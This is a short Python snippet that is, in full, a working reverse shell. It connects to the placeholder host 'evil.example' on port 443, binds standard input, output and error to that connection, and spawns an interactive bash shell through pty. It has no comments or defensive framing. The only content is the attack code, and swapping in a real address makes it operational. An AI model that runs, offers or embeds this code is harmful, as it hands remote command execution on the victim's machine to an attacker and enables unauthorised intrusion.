import pty, socket, os
c = socket.create_connection(("evil.example", 443))
[os.dup2(c.fileno(), n) for n in (0, 1, 2)]
pty.spawn("/bin/bash")
